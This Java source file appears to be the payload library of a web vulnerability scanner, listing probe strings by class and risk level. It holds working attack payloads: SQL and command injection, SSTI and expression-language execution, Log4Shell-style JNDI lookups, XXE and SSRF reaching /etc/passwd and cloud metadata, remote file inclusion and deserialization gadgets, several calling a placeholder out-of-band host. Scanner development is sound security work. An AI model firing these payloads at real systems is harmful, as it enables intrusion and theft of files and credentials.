package com.agentstrike.scanner;

import com.agentstrike.model.PayloadRisk;
import com.agentstrike.model.VulnClass;

import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static com.agentstrike.model.PayloadRisk.DANGEROUS;
import static com.agentstrike.model.PayloadRisk.MODERATE;
import static com.agentstrike.model.PayloadRisk.SAFE;

/**
 * Built-in probe payloads per vulnerability class, each tagged with a risk level.
 * Within a class payloads are ordered cheapest and quietest first.
 */
public class PayloadLibrary {

    private final Map<VulnClass, List<Payload>> payloads = new EnumMap<>(VulnClass.class);

    public PayloadLibrary() {
        // ==================== Injection ====================
        add(VulnClass.SQLI, SAFE, "'", "\"", "1'--", "1 AND 1=1", "1 AND 1=2");
        add(VulnClass.SQLI, MODERATE, "' OR '1'='1", "1' ORDER BY 100--", "' UNION SELECT NULL--",
                "1' AND extractvalue(1,concat(0x7e,version()))--");
        add(VulnClass.SQLI, DANGEROUS, "1' AND SLEEP(5)--", "1'; WAITFOR DELAY '0:0:5'--",
                "1' AND pg_sleep(5)--", "1'; EXEC master..xp_dirtree '//{OOB}/a'--");
        add(VulnClass.NOSQLI, SAFE, "'\";{}", "true, $where: '1 == 1'");
        add(VulnClass.NOSQLI, MODERATE, "{\"$ne\": null}", "{\"$gt\": \"\"}", "[$ne]=1", "{\"$regex\": \".*\"}");
        add(VulnClass.NOSQLI, DANGEROUS, "'; sleep(5000); var x='");
        add(VulnClass.XSS_REFLECTED, SAFE, "agstr<b>x</b>", "\"agstr'><i>x</i>", "agstr\"onmouseover=\"x");
        add(VulnClass.XSS_REFLECTED, MODERATE, "<script>alert(1)</script>", "\"><svg/onload=alert(1)>",
                "'-alert(1)-'", "<img src=x onerror=alert(1)>");
        add(VulnClass.XSS_STORED, MODERATE, "<svg/onload=alert(document.domain)>", "\"><img src=x onerror=alert(1)>");
        add(VulnClass.XSS_DOM, SAFE, "#agstr<b>x</b>", "javascript:void(0)//agstr");
        add(VulnClass.XSS_DOM, MODERATE, "#<img src=x onerror=alert(1)>", "javascript:alert(document.domain)");
        add(VulnClass.SSTI, SAFE, "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}");
        add(VulnClass.SSTI, MODERATE, "{{config}}", "${T(java.lang.System).getenv()}", "{{self.__class__}}");
        add(VulnClass.SSTI, DANGEROUS, "{{''.__class__.__mro__[1].__subclasses__()}}",
                "${T(java.lang.Runtime).getRuntime().exec('nslookup {OOB}')}");
        add(VulnClass.CMDI, SAFE, "agstr`echo`", "$(echo agstr)");
        add(VulnClass.CMDI, DANGEROUS, ";id", "|id", "`id`", "$(id)", "; sleep 5", "& ping -n 5 127.0.0.1 &",
                "; nslookup {OOB}", "$(curl http://{OOB}/)");
        add(VulnClass.CODE_INJECTION, SAFE, "agstr'.'x", "1+1");
        add(VulnClass.CODE_INJECTION, DANGEROUS, "phpinfo()", "__import__('os').system('id')", "require('child_process').execSync('id')");
        add(VulnClass.LDAP_INJECTION, SAFE, "*", "*)(objectClass=*");
        add(VulnClass.LDAP_INJECTION, MODERATE, "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)");
        add(VulnClass.XPATH_INJECTION, SAFE, "'", "' or '1'='1");
        add(VulnClass.XPATH_INJECTION, MODERATE, "' or count(/*)=1 or '", "'] | //* | //*['");
        add(VulnClass.XXE, MODERATE, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x \"agstr\">]><r>&x;</r>",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://{OOB}/x\"> %p;]><r/>");
        add(VulnClass.XXE, DANGEROUS, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>");
        add(VulnClass.SSRF, MODERATE, "http://127.0.0.1/", "http://localhost:22/", "http://{OOB}/",
                "http://[::1]/", "http://0x7f000001/");
        add(VulnClass.SSRF, DANGEROUS, "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd",
                "gopher://127.0.0.1:6379/_INFO");
        add(VulnClass.PATH_TRAVERSAL, MODERATE, "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd",
                "....//....//....//etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "%252e%252e%252fetc%252fpasswd");
        add(VulnClass.LFI, MODERATE, "/etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
                "file:///etc/hosts", "C:\\Windows\\win.ini");
        add(VulnClass.RFI, DANGEROUS, "http://{OOB}/shell.txt", "//{OOB}/x");
        add(VulnClass.OPEN_REDIRECT, SAFE, "//example.org", "https://example.org", "/\\example.org",
                "https:example.org", "//example.org%2f%2e%2e");
        add(VulnClass.CRLF_INJECTION, SAFE, "%0d%0aX-Agstr:%20injected", "%0aSet-Cookie:%20agstr=1",
                "%E5%98%8A%E5%98%8DX-Agstr:%20injected");
        add(VulnClass.HOST_HEADER_INJECTION, SAFE, "example.org", "localhost");
        add(VulnClass.HOST_HEADER_INJECTION, MODERATE, "{OOB}", "127.0.0.1");
        add(VulnClass.CACHE_POISONING, MODERATE, "agstr-cache.example.org", "x\"><script>alert(1)</script>");
        add(VulnClass.XML_INJECTION, SAFE, "agstr</x><y>1</y><x>", "<![CDATA[agstr]]>");
        add(VulnClass.EL_INJECTION, SAFE, "${7*7}", "#{7*7}", "%{7*7}");
        add(VulnClass.EL_INJECTION, DANGEROUS, "${\"\".getClass().forName(\"java.lang.Runtime\")}",
                "%{(#a=@java.lang.Runtime@getRuntime().exec('nslookup {OOB}'))}");
        add(VulnClass.LOG_INJECTION, SAFE, "agstr%0a[INFO] forged entry", "agstr\r\nforged");
        add(VulnClass.LOG_INJECTION, DANGEROUS, "${jndi:ldap://{OOB}/a}", "${${lower:j}ndi:dns://{OOB}/a}");
        add(VulnClass.CSV_INJECTION, SAFE, "=1+1", "+1+1", "@SUM(1+1)");
        add(VulnClass.CSV_INJECTION, MODERATE, "=HYPERLINK(\"http://example.org\",\"x\")");
        add(VulnClass.HTML_INJECTION, SAFE, "<h1>agstr</h1>", "<a href=//example.org>agstr</a>", "<marquee>agstr");
        add(VulnClass.CSS_INJECTION, SAFE, "red;}body{background:red", "</style><b>agstr</b>");
        add(VulnClass.EMAIL_HEADER_INJECTION, MODERATE, "agstr@example.org%0aBcc:agstr@example.org",
                "agstr@example.org\r\nCc:agstr@example.org");
        add(VulnClass.HPP, SAFE, "1&agstr=2", "1%26agstr%3D2");
        add(VulnClass.PROTOTYPE_POLLUTION, SAFE, "__proto__[agstr]=1", "constructor[prototype][agstr]=1");
        add(VulnClass.PROTOTYPE_POLLUTION, MODERATE, "{\"__proto__\":{\"agstr\":1}}", "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}");
        add(VulnClass.DESERIALIZATION, MODERATE, "rO0ABXQABmFnc3Ry", "O:8:\"stdClass\":0:{}");
        add(VulnClass.DESERIALIZATION, DANGEROUS, "{\"@type\":\"java.net.Inet4Address\",\"val\":\"{OOB}\"}",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{OOB}/\"]]]]");
        add(VulnClass.GRAPHQL_INJECTION, SAFE, "{__typename}", "query{__schema{queryType{name}}}");
        add(VulnClass.GRAPHQL_INJECTION, MODERATE, "\\\" ) { id } #", "1 OR 1=1");

        // ==================== Access control and auth ====================
        add(VulnClass.IDOR, SAFE, "0", "1", "2", "-1", "00000000-0000-0000-0000-000000000000");
        add(VulnClass.BOLA, SAFE, "1", "2", "999999");
        add(VulnClass.MASS_ASSIGNMENT, MODERATE, "{\"role\":\"admin\"}", "{\"isAdmin\":true}", "admin=true");
        add(VulnClass.AUTH_BYPASS, MODERATE, "admin'--", "' OR 1=1--", "true", "null");
        add(VulnClass.JWT_WEAKNESS, MODERATE, "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.");
        add(VulnClass.USER_ENUMERATION, SAFE, "admin", "agstr-nonexistent-user");

        // ==================== Exposure ====================
        add(VulnClass.STACK_TRACE, SAFE, "[]", "%", "{{", "\u0000");
        add(VulnClass.INFO_DISCLOSURE, SAFE, "debug=true", "..;/");
        add(VulnClass.DEBUG_ENDPOINT, SAFE, "actuator/env", ".env", "debug", "phpinfo.php", ".git/config");
        add(VulnClass.DIRECTORY_LISTING, SAFE, "", "./", "%2e/");
    }

    private void add(VulnClass vulnClass, PayloadRisk risk, String... values) {
        List<Payload> list = payloads.computeIfAbsent(vulnClass, k -> new ArrayList<>());
        for (String v : values) list.add(Payload.of(vulnClass, v, risk));
    }

    /** Payloads for a class in library order; empty for classes without payloads. */
    public List<Payload> payloadsFor(VulnClass vulnClass) {
        List<Payload> list = payloads.get(vulnClass);
        return list != null ? Collections.unmodifiableList(list) : List.of();
    }

    public boolean hasPayloads(VulnClass vulnClass) {
        List<Payload> list = payloads.get(vulnClass);
        return list != null && !list.isEmpty();
    }

    public Set<VulnClass> coveredClasses() {
        return Collections.unmodifiableSet(payloads.keySet());
    }
}
